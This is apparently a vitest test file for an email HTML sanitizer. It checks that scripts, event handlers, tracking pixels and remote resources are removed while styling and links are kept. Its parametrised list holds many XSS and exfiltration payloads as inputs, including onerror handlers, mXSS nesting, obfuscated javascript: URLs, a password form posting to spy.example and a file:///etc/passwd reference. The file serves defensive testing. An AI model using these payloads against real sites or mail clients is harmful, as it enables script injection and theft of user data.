import { expect, test } from 'vitest'
import { drawnPage, harmlessPage, isLaidOut } from './harmless-page.ts'

const made = (html: string, pictures = false) => harmlessPage(html, { pictures }).html

test.each([
  '<script>steal()</script>',
  '<img src=x onerror=steal()>',
  '<svg onload=steal()><script>steal()</script></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()>',
  '<iframe src="https://spy.example" srcdoc="<script>steal()</script>"></iframe>',
  '<object data="data:text/html,<script>steal()</script>"></object><embed src="https://spy.example">',
  '<meta http-equiv="refresh" content="0;url=https://spy.example">',
  '<base href="https://spy.example/">',
  '<link rel="stylesheet" href="https://spy.example/a.css"><style>@import "https://spy.example/b.css";</style>',
  '<style>body{background:url(https://spy.example/c.png)}</style>',
  '<form action="https://spy.example"><input name="password"><button formaction="https://spy.example">Go</button></form>',
  '<div style="background:url(https://spy.example/d.png);position:fixed;inset:0">over</div>',
  '<table background="https://spy.example/e.png"><tr><td background="https://spy.example/f.png">x</td></tr></table>',
  '<video poster="https://spy.example/g.png" src="https://spy.example/h.mp4"></video><audio src="https://spy.example/i"></audio>',
  '<picture><source srcset="https://spy.example/j.png"><img srcset="https://spy.example/k.png 2x"></picture>',
  '<a href="javascript:steal()">x</a><a href=" java&#10;script:steal()">y</a><a href="data:text/html,steal()">z</a>',
  '<a href="vbscript:steal()" onclick="steal()" ping="https://spy.example">x</a>',
  '<template><img src="https://spy.example/l.png"></template><noscript><img src="https://spy.example/m.png"></noscript>',
  '<xmp><script>steal()</script></xmp><plaintext><script>steal()</script>',
  '<!--[if mso]><img src="https://spy.example/n.png"><![endif]--><!-- --!><script>steal()</script> -->',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InN0ZWFsKCkiLz4=">',
  '<img src="cid:logo"><img src="//spy.example/o.png"><img src="file:///etc/passwd">',
  '<p style="color:red" id="root" class="app" name="x">x</p>',
])('nothing is fetched, run or sent by %s', html => {
  const safe = made(html)
  expect(safe).not.toMatch(
    /spy\.example|<script|onerror|onload|onclick|javascript:|vbscript:|data:text|svg|position|url\(/i,
  )
  expect(safe).not.toMatch(
    /<(?:form|input|button|iframe|object|embed|meta|base|link|style|video|audio|source|template)/i,
  )
  expect(safe).not.toMatch(/\s(?:id|class|name|ping|srcset|background)=/i)
})

test('what a mail says stays, with its looks, and links say where they lead', () => {
  const safe = made(
    '<p style="color:#a00;font-weight:bold">Our <b>offer</b></p><a href="https://shop.example/a?b=1">here</a>',
  )
  expect(safe).toContain('<p style="color:#a00;font-weight:bold">Our <b>offer</b></p>')
  expect(safe).toContain(
    'href="https://shop.example/a?b=1" title="https://shop.example/a?b=1" target="_blank"',
  )
  expect(safe).toContain('rel="noopener noreferrer nofollow"')
})

test('pictures elsewhere are counted and left out until they are asked for, and those that nobody sees always', () => {
  const html =
    '<img src="http://shop.example/roof.png" alt="A roof"><img src="https://track.example/o.gif" width="1" height="1">'
  expect(harmlessPage(html, { pictures: false })).toMatchObject({
    html: expect.not.stringContaining('<img'),
    pictures: 1,
  })
  expect(made(html)).toContain('A roof')
  const shown = harmlessPage(html, { pictures: true })
  expect(shown.html).toContain('src="https://shop.example/roof.png"')
  expect(shown.html).not.toContain('track.example')
})

test('a picture that the mail brings along is shown', () =>
  expect(made('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('data:image/png'))

test('only what says more than its text is worth looking at', () => {
  expect(
    isLaidOut('<html><head><style>p{color:red}</style></head><body><div>Hello<br>there</div></body></html>'),
  ).toBe(false)
  expect(isLaidOut('<div>Hello <a href="https://acme.example">there</a></div>')).toBe(true)
  expect(isLaidOut(`<b>${'x'.repeat(500_001)}</b>`)).toBe(false)
})

test('what is made to be endless is not laid out', () => {
  expect(made('<div>'.repeat(100_000))).toBe('')
  expect(made('<table><tr><td>'.repeat(2_000))).toBe('')
  expect(made(`${'<p>line<br>'.repeat(1_500)}`)).toContain('line')
  expect(made(`<p style="${'color:red;'.repeat(40_000)}">x</p>`).length).toBeLessThan(30_000)
  expect(drawnPage(made('<b>x</b>'))).toContain('<b>x</b>')
})
